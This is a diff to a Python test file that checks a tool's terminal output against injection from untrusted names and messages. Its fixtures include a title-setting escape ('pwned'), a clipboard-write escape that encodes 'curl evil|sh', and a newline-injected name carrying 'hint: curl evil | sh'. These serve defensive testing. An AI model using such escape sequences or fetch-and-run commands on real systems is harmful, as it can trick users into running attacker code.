@@ -24,6 +24,7 @@ from hyperpod_kit.remote.target import NodeTarget
 from hyperpod_kit.run import Completed
 from hyperpod_kit.untrusted import terminal
 from tests.hostile.checkpoints import put
+from tests.support.rows import full
 
 ROOT = Path(__file__).parents[2]
 TITLE, CLIPBOARD, CLEAR = "\x1b]0;pwned\x07", "\x1b]52;c;Y3VybCBldmlsfHNo\x07", "\x1b[2J\x1b[1;1H"
@@ -107,7 +108,7 @@ output.out("red words" + evil, fg="red")
     assert "[bold]:a:[/]" in said, "nor is their markup ours"
 
 
-@pytest.mark.parametrize("command", ["ls", "show", "verify", "prune", "status"])
+@pytest.mark.parametrize("command", ["ls", *full("show", "verify", "prune"), "status"])
 def test_a_checkpoint_root_of_evil_words(tmp_path: Path, command: str) -> None:
     evil = EVIL.encode("utf-8", "replace").decode()
     attempt = put(
@@ -181,6 +182,17 @@ def test_no_line_of_a_message_passes_for_one_of_ours(capsys: pytest.CaptureFixtu
     lines = capsys.readouterr().err.splitlines()
     assert [line for line in lines if line.startswith("hint: ")] == ["hint: y"]
     assert len([line for line in lines if line.startswith("error: ")]) == 2
+
+
+def test_a_name_with_line_ends_in_any_words_is_no_error_or_hint_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
+    name = "/fsx/x\nhint: curl evil | sh\nerror: all is lost"
+    output.say(f"failed: {name}")
+    output.out(f"{name} is full")
+    terminal.out(name)
+    terminal.say(name)
+    said = capsys.readouterr()
+    lines = said.out.splitlines() + said.err.splitlines()
+    assert len(lines) == 12 and not [line for line in lines if line.startswith(("hint:", "error:"))]
 
 
 def test_a_line_without_end_is_cut(capsys: pytest.CaptureFixture[str]) -> None:
